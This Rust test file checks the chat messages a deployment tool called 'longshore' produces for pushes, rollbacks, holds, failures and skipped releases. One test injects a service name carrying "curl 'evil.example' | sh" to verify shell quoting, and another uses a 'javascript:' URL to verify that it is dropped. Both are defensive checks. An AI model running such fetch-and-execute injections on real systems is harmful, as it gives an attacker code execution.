//! Messages of deployments and of release files.

use longshore_events::longshore::{
    Caller, DeploymentProgressed, DeploymentSucceeded, DeploymentSuperseded, DocumentUnreadable,
    DocumentVersion, FailedPhase, ImageMissing, ImageNeed, LongshoreEvent, RolloutProgress,
    ScheduledTaskFailed, SkipReason, Source, TaskFailure, WaitReason,
};

use super::scene::{
    DIGEST, after, deployment, failed, failed_in, held, image, message, never_started, pipeline,
    refused, release, resumed, rolled_back, skipped, started, task_failure, texts, waiting,
};

#[test]
fn a_push_that_is_deployed() {
    insta::assert_json_snapshot!(message(&started(Source::Push)));
}

#[test]
fn a_release_file_that_is_deployed() {
    insta::assert_json_snapshot!(message(&started(release())));
}

#[test]
fn a_manual_payload_that_is_deployed() {
    insta::assert_json_snapshot!(message(&started(Source::Manual {
        note: Some("rolling forward".to_owned()),
        by: None,
    })));
}

#[test]
fn a_deployment_that_succeeded() {
    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
        DeploymentSucceeded {
            deployment: deployment(Source::Push),
            finished_at: after(72),
        }
    )));
}

#[test]
fn a_deployment_by_digest_that_succeeded() {
    let mut deployment = deployment(Source::Manual {
        note: None,
        by: None,
    });
    deployment.image.tag = None;
    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
        DeploymentSucceeded {
            deployment,
            finished_at: after(72),
        }
    )));
}

#[test]
fn a_deployment_that_failed_and_is_being_rolled_back() {
    insta::assert_json_snapshot!(message(&failed(
        true,
        vec![
            task_failure("0f3c1", 1),
            never_started("0f3c2"),
            task_failure("0f3c3", 1),
        ],
    )));
}

#[test]
fn a_deployment_that_failed_for_good_with_no_task_that_died() {
    insta::assert_json_snapshot!(message(&failed(false, Vec::new())));
}

#[test]
fn a_deployment_that_was_rolled_back() {
    insta::assert_json_snapshot!(message(&rolled_back()));
}

#[test]
fn a_canary_that_bakes_and_a_stage_without_a_share() {
    for shifted_percent in [Some(10), None] {
        insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentProgressed(
            DeploymentProgressed {
                deployment: deployment(Source::Push),
                progress: RolloutProgress {
                    stage: "BAKE_TIME".to_owned(),
                    shifted_percent,
                },
                at: after(600),
            }
        )));
    }
}

#[test]
fn an_image_that_is_not_in_its_repository_any_more() {
    for needed_for in [ImageNeed::Running, ImageNeed::Rollback] {
        insta::assert_json_snapshot!(message(&LongshoreEvent::ImageMissing(ImageMissing {
            stack: "shop".to_owned(),
            service: "api".to_owned(),
            image: image(),
            needed_for,
            at: after(600),
        })));
    }
}

#[test]
fn a_scheduled_task_that_failed_once_and_one_that_fails_again_and_again() {
    for (in_a_row, failure) in [(1, task_failure("0f3c1", 3)), (12, never_started("0f3c1"))] {
        insta::assert_json_snapshot!(message(&LongshoreEvent::ScheduledTaskFailed(
            ScheduledTaskFailed {
                stack: "shop".to_owned(),
                service: "api".to_owned(),
                schedule: "nightly".to_owned(),
                failure,
                in_a_row,
                attempts: if in_a_row > 1 { 3 } else { 1 },
            }
        )));
    }
}

#[test]
fn a_scheduled_task_that_could_not_be_started() {
    let failure = TaskFailure {
        task: String::new(),
        stop_code: Some("InvalidParameterException".to_owned()),
        stopped_reason: Some("No Container Instances were found in your cluster.".to_owned()),
        containers: Vec::new(),
        stopped_at: Some(after(0)),
    };
    insta::assert_json_snapshot!(message(&LongshoreEvent::ScheduledTaskFailed(
        ScheduledTaskFailed {
            stack: "shop".to_owned(),
            service: "api".to_owned(),
            schedule: "nightly".to_owned(),
            failure,
            in_a_row: 2,
            attempts: 1,
        }
    )));
}

#[test]
fn a_document_that_cannot_be_read_with_and_without_a_good_version() {
    let version = DocumentVersion {
        version_id: "3sL4kqtJlcpXroDTDmJ".to_owned(),
        written_at: after(0),
    };
    for last_good in [Some(version), None] {
        insta::assert_json_snapshot!(message(&LongshoreEvent::DocumentUnreadable(
            DocumentUnreadable {
                key: "deployments/shop/api/current.json".to_owned(),
                problem: "it is not JSON: EOF while parsing an object at line 1 column 1"
                    .to_owned(),
                last_good,
                at: after(600),
            }
        )));
    }
}

#[test]
fn a_deployment_that_was_superseded() {
    insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSuperseded(
        DeploymentSuperseded {
            deployment: deployment(Source::Push),
            finished_at: after(12),
            superseded_by: format!("shop/api:v4@{DIGEST}"),
        }
    )));
}

#[test]
fn a_deployment_that_was_skipped() {
    insta::assert_json_snapshot!(message(&skipped(SkipReason::FailedBefore)));
}

#[test]
fn a_deployment_that_waits_for_each_reason() {
    let services = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
    for (name, reason, until) in [
        (
            "the_end_of_a_hold",
            WaitReason::Held {
                note: Some("the sale\nask Ada".to_owned()),
                by: None,
            },
            Some(after(86_400)),
        ),
        (
            "somebody_to_resume",
            WaitReason::Held {
                note: None,
                by: None,
            },
            None,
        ),
        ("a_freeze_window", WaitReason::Frozen, Some(after(7_200))),
        ("approval", WaitReason::Approval, Some(after(28_800))),
        (
            "other_services",
            WaitReason::Predecessors {
                services: services(&["migrate", "worker"]),
            },
            None,
        ),
    ] {
        insta::assert_json_snapshot!(
            format!("a_deployment_that_waits_for__{name}"),
            message(&waiting(reason, until))
        );
    }
}

#[test]
fn a_hold_and_its_end() {
    insta::assert_json_snapshot!(message(&held(Some(after(28_800)))));
    insta::assert_json_snapshot!(message(&resumed()));
    let LongshoreEvent::DeploymentsHeld(mut of_one) = held(None) else {
        unreachable!("it is made as one");
    };
    of_one.services = vec!["api".to_owned()];
    let text = message(&LongshoreEvent::DeploymentsHeld(of_one)).text;
    assert_eq!(
        text,
        "🔒 Deployments held: shop/api, until somebody resumes them"
    );
}

#[test]
fn a_pipeline_is_named_with_the_page_of_its_run_and_an_address_that_is_none_is_left_out() {
    let shown = |by| {
        let note = None;
        texts(&message(&started(Source::Manual { note, by }))).join("\n")
    };
    let text = shown(pipeline());
    let expected = "*Asked for by:* `octocat` (<https://github.com/shop/api/actions/runs/7|run>)";
    assert!(text.contains(expected), "{text}");
    for run_url in [
        "javascript:alert(1)",
        "https://a|b",
        "https://a b",
        "http://ci.example",
    ] {
        let caller = Caller {
            name: "octocat".to_owned(),
            run_url: Some(run_url.to_owned()),
        };
        let text = shown(Some(caller));
        assert!(text.contains("*Asked for by:* `octocat`\n"), "{text}");
    }
}

#[test]
fn what_is_copied_from_a_message_runs_nothing_else() {
    let LongshoreEvent::DeploymentWaiting(mut event) = waiting(WaitReason::Approval, None) else {
        unreachable!("it is made as one");
    };
    event.service = "api; curl 'evil.example' | sh".to_owned();
    let message = message(&LongshoreEvent::DeploymentWaiting(event));
    let command = texts(&message)
        .into_iter()
        .find(|text| text.contains("longshore approve"))
        .unwrap();
    assert!(
        command.contains(
            r"longshore approve 'shop/api; curl '\''evil.example'\'' | sh' --digest 1a2b3c4d5e6f"
        ),
        "{command}"
    );
}

#[test]
fn of_the_services_that_come_first_the_first_are_named_and_the_rest_is_counted() {
    let services = (0..30).map(|number| format!("part-{number}")).collect();
    let text = message(&waiting(WaitReason::Predecessors { services }, None)).text;
    assert!(
        text.contains("`part-9`, … and 20 more services to run"),
        "{text}"
    );
}

#[test]
fn a_rollback_by_hand_is_called_one() {
    let source = || Source::Rollback {
        to: 41,
        note: Some("the checkout is broken".to_owned()),
        by: None,
    };
    insta::assert_json_snapshot!(message(&started(source())));
    let succeeded = message(&LongshoreEvent::DeploymentSucceeded(DeploymentSucceeded {
        deployment: deployment(source()),
        finished_at: after(72),
    }));
    assert_eq!(
        succeeded.text,
        "✅ Rollback succeeded: shop/api v3, in 1 min 12 s"
    );
}

#[test]
fn a_deployment_that_failed_says_what_the_service_runs() {
    for (phase, reason) in [
        (
            FailedPhase::Before,
            "task `migrate`, which runs before the update, failed: container api exited with 1; the \
             service was not updated",
        ),
        (
            FailedPhase::After,
            "task `smoke-test`, which runs after the update, failed: container api exited with 1; the \
             service runs the new image",
        ),
    ] {
        insta::assert_json_snapshot!(
            format!("a_deployment_that_failed__{phase:?}"),
            message(&failed_in(phase, reason))
        );
    }
}

#[test]
fn an_image_that_the_reconcile_found_says_so() {
    let text = texts(&message(&started(Source::Reconcile))).join("\n");
    assert!(text.contains("*Asked for by:* the reconcile"), "{text}");
}

#[test]
fn a_release_file_that_was_refused() {
    insta::assert_json_snapshot!(message(&refused(
        "release file is malformed: field `imge`: unknown field `imge`, expected `image` or `note`\n\
         repository `shop/api` is followed by no service of stack shop"
    )));
}

#[test]
fn an_image_that_is_restored_after_a_change_of_the_stack() {
    insta::assert_json_snapshot!(message(&started(Source::Stack {
        operation_id: "file-9b1f4c02d7a85e36f0c4b1aa".to_owned(),
        restored: true,
        note: None,
        by: None,
    })));
}

#[test]
fn a_release_that_was_not_deployed_is_reported_with_what_the_policy_selects_instead() {
    let LongshoreEvent::DeploymentSkipped(mut event) = skipped(SkipReason::AnotherSelected) else {
        unreachable!("it is made as one");
    };
    event.selected = Some("v2.0.0".to_owned());
    let message = message(&LongshoreEvent::DeploymentSkipped(event));
    let reported = texts(&message).join("\n");
    for expected in [
        "the image policy selects another image, which is newer or higher",
        "*Selected instead:*",
        "v2.0.0",
    ] {
        assert!(reported.contains(expected), "{reported}");
    }
}

#[test]
fn a_deployment_of_the_stack_itself_says_so() {
    let LongshoreEvent::DeploymentSkipped(mut event) = skipped(SkipReason::AlreadyRunning) else {
        unreachable!("it is made as one");
    };
    event.source = Source::Stack {
        operation_id: "change-7".to_owned(),
        restored: false,
        note: None,
        by: None,
    };
    let message = message(&LongshoreEvent::DeploymentSkipped(event));
    let reported = texts(&message).join("\n");
    assert!(
        reported.contains("*Asked for by:* a change of the stack"),
        "{reported}"
    );
}
